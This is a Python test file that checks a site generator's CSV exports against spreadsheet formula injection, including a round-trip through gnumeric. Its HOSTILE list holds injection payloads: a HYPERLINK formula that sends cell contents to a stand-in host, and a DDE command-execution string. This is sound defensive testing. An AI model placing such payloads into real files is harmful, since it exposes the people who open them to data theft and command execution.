"""The open-data CSV never runs as a formula when a spreadsheet opens it (OWASP CSV injection).

Read by a real spreadsheet program: gnumeric's ssconvert opens the built CSV and writes it as xlsx,
whose cells are then read from the workbook's XML (a formula is an <f> element). .ci/run installs
gnumeric; in CI (SLIP_REQUIRE_SPREADSHEET) its absence is a failure, never a skip.
"""
from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree

import pytest

from sitegen import build as build_module
from sitegen.exports import cell, table
from tests.conftest import DEMO_AS_OF, write_village

SSCONVERT = shutil.which("ssconvert")
if SSCONVERT is None and os.environ.get("SLIP_REQUIRE_SPREADSHEET"):
    raise RuntimeError("ssconvert is required (SLIP_REQUIRE_SPREADSHEET is set) but not installed (apt-get install gnumeric)")
needs_spreadsheet = pytest.mark.skipif(SSCONVERT is None, reason="gnumeric's ssconvert is not installed; .ci/run installs it")

HOSTILE = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"Klik\")", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def test_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers():
    assert [cell(v) for v in HOSTILE] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert cell("Dana\rDesa") == "Dana\nDesa"  # a bare CR would end the row in a spreadsheet
    assert [cell(v) for v in ("-1500000", "-12.5", -3, 4.5, None, "Dana Desa", "a=b")] == \
        ["-1500000", "-12.5", -3, 4.5, None, "Dana Desa", "a=b"]
    text, raw = table([{"judul": "=1+1"}], ["judul"])
    assert list(csv.reader(text.splitlines())) == [["judul"], ["'=1+1"]] and json.loads(raw) == [{"judul": "=1+1"}]


def _cells(xlsx) -> tuple[list[str], int]:
    """(every shared or inline text, number of formula cells) of the workbook's first sheet."""
    with zipfile.ZipFile(xlsx) as book:
        names = book.namelist()
        sheet = ElementTree.fromstring(book.read(next(n for n in names if n.startswith("xl/worksheets/"))))
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml")) if "xl/sharedStrings.xml" in names else None
    strings = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in shared] if shared is not None else []
    return strings, len(sheet.findall(".//m:f", NS))


@needs_spreadsheet
def test_a_spreadsheet_opening_the_dip_export_finds_no_formula(tmp_path):
    rows = "".join(f"- judul: {json.dumps(v)}\n  kategori: berkala\n  ringkasan: {json.dumps(v)}\n" for v in HOSTILE)
    villages = tmp_path / "villages"
    write_village(villages / "desa", {"profil.yaml": "nama: Desa\n", "dip.yaml": "informasi:\n" + rows})
    build_module.build(villages, tmp_path / "output", as_of=DEMO_AS_OF)
    exported = tmp_path / "output" / "desa" / "dip" / "dip.csv"
    assert exported.is_file()
    xlsx = tmp_path / "dip.xlsx"
    subprocess.run([SSCONVERT, "--import-type=Gnumeric_stf:stf_csvtab", str(exported), str(xlsx)],
                   check=True, capture_output=True, timeout=120)
    strings, formulas = _cells(xlsx)
    assert formulas == 0
    assert all(any(v.strip() in s for s in strings) for v in HOSTILE), strings  # the text is kept, readable
